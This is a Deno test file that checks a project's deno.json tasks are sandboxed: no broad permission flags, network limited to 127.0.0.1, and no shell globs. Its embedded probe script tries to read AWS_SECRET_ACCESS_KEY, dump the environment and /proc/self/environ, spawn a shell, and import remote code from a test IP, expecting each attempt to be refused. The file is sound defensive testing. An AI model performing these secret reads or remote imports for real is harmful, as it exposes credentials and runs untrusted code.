import { assert, assertEquals } from "@std/assert";

const root = new URL("../../", import.meta.url);
const { tasks }: { tasks: Record<string, string> } = JSON.parse(
  await Deno.readTextFile(new URL("deno.json", root)),
);
/** The flags that the shell of the tasks gives to Deno. */
const flagsOf = (command: string) =>
  command.split(" ").filter((word) => word.startsWith("-")).map((word) => word.replaceAll("'", ""));
/** Tasks that run the program. */
const programs = Object.entries(tasks).filter(([, command]) => /^deno run /.test(command));

/** What a program tries that reads a malicious file and does what it says. */
const ATTEMPTS = `
const tried = {
  net: () => Deno.connect({ hostname: "192.0.2.1", port: 80 }),
  listen: () => Deno.listen({ hostname: "0.0.0.0", port: 0 }),
  run: () => new Deno.Command("sh", { args: ["-c", "true"] }).outputSync(),
  env: () => Deno.env.get("AWS_SECRET_ACCESS_KEY"),
  environment: () => Deno.env.toObject(),
  sys: () => Deno.networkInterfaces(),
  memory: () => Deno.readTextFileSync("/proc/self/environ"),
  import: () => import("https://192.0.2.1/x.ts"),
};
const done = [];
for (const [name, attempt] of Object.entries(tried)) {
  try {
    await attempt();
    done.push(name);
  } catch (error) {
    const refused = error instanceof Deno.errors.NotCapable || /allow-import/.test(error.message);
    if (!refused) done.push(name + ": " + error.message);
  }
}
console.log(JSON.stringify(done));
`;

Deno.test("no task runs with every permission, and none may run or reach anything", () => {
  assert(programs.length > 10);
  for (const [name, command] of programs) {
    const flags = flagsOf(command);
    const open = flags.filter((flag) =>
      /^(-A|--allow-all|--allow-(run|env|net|sys|import))$/.test(flag)
    );
    assertEquals(open, [], name);
    assert(flags.includes("--no-prompt"), `${name} asks for more on a terminal`);
    const [, hosts] = /--allow-net=(\S+)/.exec(command) ?? [];
    assert(hosts === undefined || hosts === "127.0.0.1", name);
  }
});

Deno.test("tasks refuse connections, other programs, and what the environment hides", async () => {
  const script = await Deno.makeTempFile({ suffix: ".js" });
  try {
    await Deno.writeTextFile(script, ATTEMPTS);
    for (const name of ["train", "track", "build", "fuzz"]) {
      const flags = flagsOf(tasks[name]);
      const { stdout, stderr } = await new Deno.Command(Deno.execPath(), {
        args: ["run", "--no-config", ...flags, script],
        cwd: root,
        env: { NO_COLOR: "1" },
      }).output();
      const text = new TextDecoder().decode(stdout).trim();
      assertEquals(text, "[]", `${name}: ${new TextDecoder().decode(stderr)}`);
    }
  } finally {
    await Deno.remove(script);
  }
});

Deno.test("no task has a pattern that the shell takes for files", () => {
  for (const [name, command] of Object.entries(tasks)) {
    assert(!command.replaceAll(/'[^']*'/g, "").includes("*"), name);
  }
});
